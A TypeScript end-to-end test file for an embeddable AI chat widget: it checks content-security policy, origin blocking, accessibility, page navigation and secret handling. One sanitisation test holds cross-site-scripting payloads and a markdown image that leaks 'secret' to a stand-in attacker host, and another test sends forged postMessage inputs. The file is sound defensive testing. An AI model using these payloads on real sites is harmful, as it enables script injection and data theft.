import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ConsoleApp, shareConsole } from '../../support/browser.ts';
import { createEmbed, identityToken, newVisitor, say } from '../../support/embeds.ts';
import { notePositions } from '../../support/positions.ts';

let app: ConsoleApp;
let website: Server;
let shop: string;
let stranger: string;

/** A website with the strictest policy under which it can show the widget. Its visitors see `?embed=`. */
const startWebsite = async (): Promise<Server> => {
  const server = createServer((request, response) => {
    const { searchParams } = new URL(request.url ?? '/', shop);
    const [embed, identity] = [searchParams.get('embed') ?? '', searchParams.get('identity') ?? ''];
    const site = request.url?.split('?')[0] ?? '';
    if (site in otherPages) {
      response.writeHead(200, {
        'content-type': site.endsWith('.js') ? 'text/javascript' : 'text/html; charset=utf-8',
      });
      response.end(otherPages[site]?.(embed));
      return;
    }
    response.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy': `default-src 'none'; script-src ${app.baseUrl}; frame-src ${app.baseUrl}`,
    });
    response.end(`<!doctype html><html lang="en"><title>Shop</title><h1>Shop</h1>
      <script async src="${app.baseUrl}/embed/v1/widget.js" data-embed="${embed}" data-identity="${identity}"></script></html>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
};

const widget = () => `${app.baseUrl}/embed/v1/widget.js`;
const turbo = fileURLToPath(import.meta.resolve('@hotwired/turbo/dist/turbo.es2017-umd.js'));

/** Pages of websites that include the widget in other ways, and their scripts. */
const otherPages: Readonly<Record<string, (embed: string) => string>> = {
  '/turbo.js': () => readFileSync(turbo, 'utf8'),
  '/turbo': (embed) => `<!doctype html><html lang="en"><head><title>Shop</title><script src="/turbo.js"></script></head>
    <body><a href="/turbo/next?embed=${embed}">Next</a>
    <script async src="${widget()}" data-embed="${embed}"></script></body></html>`,
  '/turbo/next': (
    embed,
  ) => `<!doctype html><html lang="en"><head><title>Next</title><script src="/turbo.js"></script></head>
    <body><h1>The next page</h1><a href="/turbo?embed=${embed}">Back</a>
    <script async src="${widget()}" data-embed="${embed}"></script></body></html>`,
  '/transition': (embed) => `<!doctype html><html lang="en"><title>Shop</title><body><button>Next</button>
    <script async src="${widget()}" data-embed="${embed}"></script>
    <script>document.querySelector('button').onclick = () => document.startViewTransition(() => {
      const body = document.createElement('body');
      body.innerHTML = '<h1>The next page</h1>';
      document.body.replaceWith(body);
    })</script></body></html>`,
  '/module': (embed) => `<!doctype html><html lang="en"><title>Shop</title>
    <script type="module" src="${widget()}" data-embed="${embed}"></script></html>`,
  '/bundled': (embed) => `<!doctype html><html lang="en"><title>Shop</title>
    <div data-embed="${embed}" data-service="${app.baseUrl}"></div><script type="module">import('${widget()}')</script></html>`,
  '/unnamed': () => `<!doctype html><html lang="en"><title>Shop</title><script src="${widget()}"></script></html>`,
};

beforeAll(async () => {
  app = await shareConsole();
  website = await startWebsite();
  const { port } = website.address() as AddressInfo;
  shop = `http://localhost:${port}`;
  stranger = `http://127.0.0.1:${port}`;
});
afterAll(async () => {
  // Its pages are on another origin.
  app.expectNoFaults(/^request: http:\/\/(localhost|127\.0\.0\.1):/);
  website.closeAllConnections();
  website.close();
  await app.close();
});

const local = { test: true, allowed_origins: ['http://localhost:*'] };
const chatButton = (page: Page) => page.getByRole('button', { name: 'Open the chat' });
const field = (frame: Frame) => frame.getByRole('textbox', { name: 'Message' });

/** Opens the website and its chat. Returns the frame of the chat. */
async function openChat(page: Page, embed: string, query = ''): Promise<Frame> {
  await page.goto(`${shop}/?embed=${embed}${query}`);
  await chatButton(page).click();
  const element = await page.locator('iframe').elementHandle();
  const frame = await element?.contentFrame();
  if (!frame) throw new Error('there is no frame');
  await field(frame).waitFor();
  return frame;
}

const expectNoFaults = (): void =>
  app.expectNoFaults(/^request: http:\/\/(localhost|127\.0\.0\.1):\d+\/(\?embed=|favicon)/);

describe('the widget on another website', () => {
  test('shows the notice, answers in Markdown, and has the history after a reload, under a strict policy', async () => {
    const { id } = await createEmbed(app, { ...local, appearance: { starters: ['How far is the moon?'] } });
    const page = await app.visit('/robots.txt');
    const frame = await openChat(page, id);
    await frame.getByText('You are talking to an AI').waitFor();
    await frame.getByText('Hello, I am Ada.').waitFor();
    expect(await frame.locator('.badge').textContent()).toBe('AI');
    app.model.script({ when: 'How far', deltas: ['It is **384,400 km**', ' away.'] });
    await frame.getByRole('button', { name: 'How far is the moon?' }).click();
    await frame.locator('strong', { hasText: '384,400 km' }).waitFor();
    await frame.getByRole('button', { name: 'Good reply' }).click();
    await frame.locator('[aria-pressed="true"]').waitFor();
    const again = await openChat(page, id);
    await again.locator('strong', { hasText: '384,400 km' }).waitFor();
    expect(await page.context().cookies()).toEqual([]);
    expectNoFaults();
  });

  test('moves nothing when a reply is stored and can be rated', async () => {
    const { id } = await createEmbed(app, local);
    const frame = await openChat(await app.visit('/robots.txt'), id);
    app.model.script({ when: 'How far', deltas: ['Far away.'] });
    const positions = await notePositions(frame, 'Far away.');
    await field(frame).fill('How far is the moon?');
    await field(frame).press('Enter');
    await frame.getByRole('button', { name: 'Good reply' }).waitFor();
    expect(await positions()).toHaveLength(1);
    expectNoFaults();
  });

  test('is refused by the browser on a website that is not listed, and shows nothing when it is paused', async () => {
    const { id, owner } = await createEmbed(app, local);
    const page = await app.visit('/robots.txt');
    const told = (part: string) => page.waitForEvent('console', (message) => message.text().includes(part));
    const blocked = told('frame-ancestors');
    await page.goto(`${stranger}/?embed=${id}`);
    await blocked;
    expect(await chatButton(page).isVisible()).toBe(false);
    await app.call('PUT', `/v1/embeds/${id}`, { as: owner.token, body: { active: false } });
    const refused = told('X-Frame-Options');
    await page.goto(`${shop}/?embed=${id}`);
    await refused;
    expect(await chatButton(page).isVisible()).toBe(false);
    app.expectNoFaults(/frame-ancestors|X-Frame-Options|^request: |404/);
  });

  test('works without storage, with the keyboard alone, right to left, and gives the focus back', async () => {
    const { id } = await createEmbed(app, { ...local, appearance: { language: 'ar', dark: 'dark', position: 'left' } });
    const page = await app.visit('/robots.txt', { viewport: { width: 390, height: 844 } });
    await page.addInitScript(() =>
      Object.defineProperty(window, 'localStorage', {
        get: () => {
          throw new DOMException('denied', 'SecurityError');
        },
      }),
    );
    await page.goto(`${shop}/?embed=${id}`);
    const button = page.getByRole('button');
    await button.waitFor();
    await button.focus();
    await page.keyboard.press('Enter');
    const frame = await (await page.locator('iframe').elementHandle())?.contentFrame();
    if (!frame) throw new Error('there is no frame');
    await frame.locator('textarea:focus').waitFor();
    expect(await frame.evaluate(() => [document.dir, document.documentElement.dataset['theme']])).toEqual([
      'rtl',
      'dark',
    ]);
    await expect
      .poll(() => page.locator('iframe').boundingBox())
      .toMatchObject({ x: 0, y: 0, width: 390, height: 844 });
    await page.keyboard.type('Hello there');
    await page.keyboard.press('Enter');
    await frame.locator('.rating').waitFor();
    await page.keyboard.press('Escape');
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('BUTTON');
    expectNoFaults();
  });

  test('sends what was typed before the session has started, and shows it', async () => {
    const { id } = await createEmbed(app, local);
    const page = await app.visit('/robots.txt');
    const held = Promise.withResolvers<void>();
    let sessions = 0;
    await page.route('**/v1/embed/sessions', async (route) => {
      sessions += 1;
      await held.promise;
      await route.fallback();
    });
    const frame = await openChat(page, id);
    await field(frame).fill('Too early');
    await field(frame).press('Enter');
    held.resolve();
    await frame.locator('.rating').waitFor();
    expect(await frame.locator('.question').allInnerTexts()).toEqual([expect.stringContaining('Too early')]);
    expect([sessions, await field(frame).inputValue()]).toEqual([1, '']);
    expectNoFaults();
  });

  test('runs and loads nothing that a reply or a name contains', async () => {
    const name = 'Ada</title><img src=x onerror=alert(1)>';
    const owner = await app.signUp({ plan: 'creator' });
    const agent = await app.createAgent(owner.token, { name, greeting_message: 'Hi <b>you</b>' });
    const { id } = await createEmbed(
      app,
      { ...local, agent_id: agent.id, appearance: { title: '"><script>alert(2)</script>' } },
      owner,
    );
    const page = await app.visit('/robots.txt');
    page.on('dialog', () => expect.unreachable('a script ran'));
    const frame = await openChat(page, id);
    const evil = [
      '<img src=x onerror=alert(3)>\n\n',
      '[click](javascript:alert(4)) ![leak](https://evil.example/?q=secret)\n\n',
      '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
    ];
    app.model.script({ when: 'Attack', deltas: evil });
    await field(frame).fill('Attack');
    await field(frame).press('Enter');
    await frame.locator('.rating').waitFor();
    expect(await frame.locator('.reply').last().locator('img, iframe, style, script').count()).toBe(0);
    expect(await frame.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await frame.getByRole('heading').first().textContent()).toBe('"><script>alert(2)</script>');
    expectNoFaults();
  });

  test('accepts messages of its page only', async () => {
    const { id } = await createEmbed(app, local);
    const page = await app.visit('/robots.txt');
    const frame = await openChat(page, id);
    // A message to the frame from anything but the embedding page must not change the identity.
    await frame.evaluate(() => window.postMessage({ type: 'hello', identity: 'forged' }, '*'));
    // A forged message from the frame must not close or rename anything.
    await page.evaluate(() => window.postMessage({ type: 'close' }, '*'));
    await page.evaluate(() =>
      window.postMessage({ type: 'ready', color: 'red', onColor: 'red', position: 'left', label: 'Forged' }, '*'),
    );
    expect(await page.locator('iframe').isVisible()).toBe(true);
    expect(await page.getByRole('button', { name: 'Forged' }).count()).toBe(0);
    await field(frame).fill('Still me');
    await field(frame).press('Enter');
    await frame.locator('.rating').waitFor();
    expectNoFaults();
  });

  test('recognizes a customer who is signed in, and says so to one who is not', async () => {
    const { id, embed } = await createEmbed(app, { ...local, identity: 'required' });
    const page = await app.visit('/robots.txt');
    const token = await identityToken(embed.identity_secret, id);
    const frame = await openChat(page, id, `&identity=${token}`);
    await field(frame).fill('It is me');
    await field(frame).press('Enter');
    await frame.locator('.rating').waitFor();
    const other = await app.visit('/robots.txt');
    const elsewhere = await openChat(other, id, `&identity=${await identityToken(embed.identity_secret, id)}`);
    await elsewhere.getByText('It is me').waitFor();
    const anonymous = await app.visit('/robots.txt');
    await (await openChat(anonymous, id)).getByText('Please sign in on this website first.').waitFor();
    expectNoFaults();
  });
});

test('the console creates an embed, previews it while it is typed, and shows its line, refusals and visitors', async () => {
  const page = await app.visitSignedIn('/robots.txt');
  await app.createAgent(page.token, { name: 'Ada' });
  await page.goto('/embeds');
  await page.getByRole('button', { name: 'New embed' }).first().click();
  await page.getByRole('textbox', { name: 'Name' }).fill('My shop');
  await page.getByRole('textbox', { name: 'Websites' }).fill('http://localhost:*');
  await page.getByRole('button', { name: 'Create' }).click();
  await page.getByText('Only origins with https are allowed without test: true').waitFor();
  await page.getByRole('checkbox', { name: 'Allow http://localhost' }).check();
  await page.getByRole('button', { name: 'Create' }).click();
  await page.getByRole('button', { name: 'I have stored it' }).click();
  await page.getByRole('heading', { name: 'My shop' }).waitFor();
  const line = (await page.getByLabel('Line', { exact: true }).textContent()) ?? '';
  const [, id = ''] =
    /^<script async src="[^"]+\/embed\/v1\/widget\.js" data-embed="(emb_[\w-]+)"><\/script>$/.exec(line) ?? [];
  await page.getByRole('textbox', { name: 'Title (optional)' }).fill('Ask the shop');
  await page.locator('figure', { hasText: 'Ask the shop' }).waitFor();
  await page.getByRole('textbox', { name: 'Per visitor and day' }).fill('0');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('must be at least 1').waitFor();
  await page.getByRole('textbox', { name: 'Per visitor and day' }).fill('1');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('Saved').waitFor();
  const token = await newVisitor(app, id, { parent_origin: 'http://localhost:1234' });
  await say(app, token, 'Hello');
  await say(app, token, 'Hello again');
  await page.reload();
  await page.getByRole('row', { name: /Per visitor and day 1 1/ }).waitFor();
  await page.getByRole('button', { name: /^Erase Visitor/ }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Erase' }).click();
  await page.getByText('No visitors yet.').waitFor();
  app.expectNoFaults();
});

test('the console sets the keys of a challenge, and neither shows nor loses the secret', async () => {
  const page = await app.visitSignedIn('/robots.txt');
  const agent = await app.createAgent(page.token, { name: 'Ada' });
  const body = { agent_id: agent.id, name: 'Shop', ...local };
  const { id } = (await app.call('POST', '/v1/embeds', { as: page.token, body })).body;
  const stored = async () =>
    (await app.db.query('select name, challenge, challenge_site_key, challenge_secret from embeds where id = $1', [id]))
      .rows[0];
  const save = () => page.getByRole('button', { name: 'Save' }).click();
  const siteKey = page.getByLabel('Turnstile site key');
  const secret = page.getByLabel('Turnstile secret key');
  await page.goto(`/embeds/${id}`);
  await page.getByLabel('Challenge for new visitors').selectOption('TURNSTILE');
  await siteKey.fill('own-site-key');
  await save();
  await page.getByText('is required for this challenge').waitFor();
  await secret.fill('own-secret-key');
  await save();
  await expect.poll(() => secret.inputValue()).toBe('');
  const { challenge_secret: sealed } = await stored();
  expect(sealed).not.toBeNull();
  await page.reload();
  await expect.poll(() => siteKey.inputValue()).toBe('own-site-key');
  expect([await secret.inputValue(), await secret.getAttribute('type')]).toEqual(['', 'password']);
  await page.getByRole('textbox', { name: 'Name' }).fill('Our shop');
  await save();
  const own = { challenge: 'turnstile', challenge_site_key: 'own-site-key', challenge_secret: sealed };
  await expect.poll(stored).toEqual({ ...own, name: 'Our shop' });
  await siteKey.fill('');
  await save();
  await expect.poll(stored).toMatchObject({ challenge_site_key: null, challenge_secret: null });
  app.expectNoFaults();
});

describe('the widget on a website that', () => {
  const visitAndOpen = async (path: string): Promise<Page> => {
    const { id } = await createEmbed(app, local);
    const page = await app.visit('/robots.txt');
    await page.goto(`${shop}${path}?embed=${id}`);
    await chatButton(page).click();
    await page.frameLocator('iframe').getByRole('textbox', { name: 'Message' }).waitFor();
    return page;
  };
  const inFrame = (page: Page) => page.frameLocator('iframe');
  const expectOne = async (page: Page): Promise<void> => {
    await inFrame(page).getByRole('textbox', { name: 'Message' }).waitFor();
    const ofBody = 'document.body.querySelectorAll("iframe").length';
    await expect.poll(() => page.evaluate(ofBody)).toBe(1);
  };

  test('navigates with Turbo moves into each new page, with its conversation', async () => {
    const page = await visitAndOpen('/turbo');
    await inFrame(page).getByRole('textbox', { name: 'Message' }).fill('Hello.');
    await page.keyboard.press('Enter');
    await inFrame(page).locator('.rating').waitFor();
    for (const [link, title] of [
      ['Next', 'Next'],
      ['Back', 'Shop'],
      ['Next', 'Next'],
    ] as const) {
      await page.getByRole('link', { name: link }).click();
      await expect.poll(() => page.title()).toBe(title);
      await expectOne(page);
      await inFrame(page).locator('.question', { hasText: 'Hello.' }).waitFor();
    }
    await page.goBack();
    await expect.poll(() => page.title()).toBe('Shop');
    await expectOne(page);
  });

  test('replaces its body in a view transition moves into the new one', async () => {
    const page = await visitAndOpen('/transition');
    await page.getByRole('button', { name: 'Next' }).click();
    await page.getByRole('heading', { name: 'The next page' }).waitFor();
    await expectOne(page);
  });

  test('loads it as a module, or from a bundle beside an element with data-embed, works', async () => {
    for (const path of ['/module', '/bundled']) await expectOne(await visitAndOpen(path));
  });

  test('names no embed says why nothing is shown', async () => {
    const page = await app.visit('/robots.txt');
    const warning = page.waitForEvent('console', (message) => message.text().includes('data-embed'));
    await page.goto(`${shop}/unnamed`);
    expect((await warning).type()).toBe('warning');
  });
});

describe('the message field of the widget', () => {
  test('does not send a message with the key that ends an input method, in the order of each browser', async () => {
    const { id } = await createEmbed(app, local);
    const page = await app.visit('/robots.txt');
    const frame = await openChat(page, id);
    await field(frame).fill('にほんご');
    for (const init of [{ isComposing: true }, { keyCode: 229 }])
      for (const key of ['Enter', 'Escape'])
        await field(frame).evaluate(
          (element, event) => void element.dispatchEvent(new KeyboardEvent('keydown', { ...event, bubbles: true })),
          { key, ...init },
        );
    expect(await field(frame).inputValue()).toBe('にほんご');
    await field(frame).press('Enter');
    await frame.locator('.rating').waitFor();
    expect(await frame.locator('.question').allInnerTexts()).toEqual([expect.stringContaining('にほんご')]);
  });
});
